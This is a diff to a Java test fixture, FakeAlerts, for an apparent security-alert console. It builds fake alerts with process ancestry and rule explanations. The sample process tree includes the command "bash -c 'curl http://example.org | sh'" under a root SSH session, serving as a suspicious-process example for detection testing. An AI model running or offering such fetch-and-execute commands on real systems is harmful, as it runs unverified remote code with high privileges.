@@ -3,13 +3,18 @@ package org.eyas.console.page;
 import java.time.Instant;
 import java.time.InstantSource;
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
+import java.util.SortedMap;
 import java.util.TreeMap;
 import java.util.TreeSet;
 import java.util.function.Consumer;
 import org.eyas.api.alert.Alert;
 import org.eyas.api.alert.Priority;
+import org.eyas.api.control.AlertDetails;
 import org.eyas.api.control.AlertHistory;
+import org.eyas.api.control.AlertProcess;
+import org.eyas.api.control.AlertProcess.Relation;
 import org.eyas.api.control.AlertSearch;
 import org.eyas.api.control.PastAlert;
 import org.eyas.engine.history.AlertMemory;
@@ -20,6 +25,7 @@ import org.jspecify.annotations.Nullable;
 final class FakeAlerts implements AlertHistory {
   private static final long MEMORY_BYTES = 4 << 20;
 
+  private final long started = Instant.now().toEpochMilli() * 1_000_000;
   private final AlertMemory memory = new AlertMemory(MEMORY_BYTES);
   private final AlertSearch search = new HistorySearch(memory, InstantSource.system());
 
@@ -42,11 +48,37 @@ final class FakeAlerts implements AlertHistory {
     fields.put("container.id", null);
     long now = Instant.now().toEpochMilli() * 1_000_000;
     Alert alert = new Alert(now, priority, rule, "syscall", message, fields, new TreeSet<>(List.of(tags)));
-    List<String> ancestors =
-        List.of("4711 bash -c 'curl http://example.org | sh'", "4710 sshd: root@pts/0", "812 sshd", "1 systemd");
     String explanation = "spawned_process and proc.name = bash\n  true   spawned_process\n  true   proc.name = bash";
-    memory.describe(alert, ancestors, explanation);
+    SortedMap<String, String> read = new TreeMap<>(Map.of("evt.type", "execve", "proc.name", "bash"));
+    memory.describe(alert, new AlertDetails(processes(started), explanation, read));
     memory.add(alert);
+  }
+
+  /** An alert for whose details there was no budget. */
+  void raiseUndetailed(String rule, String message) {
+    memory.add(
+        new Alert(
+            Instant.now().toEpochMilli() * 1_000_000, Priority.NOTICE, rule, "syscall", message, new TreeMap<>(),
+            new TreeSet<>()));
+  }
+
+  /** An alert of a time, a program and a user. */
+  void raiseAt(long nanos, String rule, String program, String user) {
+    TreeMap<String, @Nullable Object> fields = new TreeMap<>(Map.of("proc.name", program, "user.name", user));
+    memory.add(new Alert(nanos, Priority.NOTICE, rule, "syscall", "by " + program, fields, new TreeSet<>()));
+  }
+
+  private static List<AlertProcess> processes(long started) {
+    return List.of(
+        process(Relation.ITSELF, 4_711, 4_710, "bash", "bash -c 'curl http://example.org | sh'", started),
+        process(Relation.ANCESTOR, 4_710, 812, "sshd", "sshd: root@pts/0", started - 3_000_000_000L),
+        process(Relation.ANCESTOR, 812, 1, "sshd", "sshd", 0),
+        process(Relation.ANCESTOR, 1, -1, "systemd", "systemd", 0),
+        process(Relation.CHILD, 4_712, 4_711, "curl", "curl http://example.org", started));
+  }
+
+  private static AlertProcess process(Relation relation, long pid, long parent, String name, String command, long start) {
+    return new AlertProcess(relation, pid, parent, name, "root", "/usr/bin/" + name, command, start, "");
   }
 
   /** The alerts from which a new engine continues. */
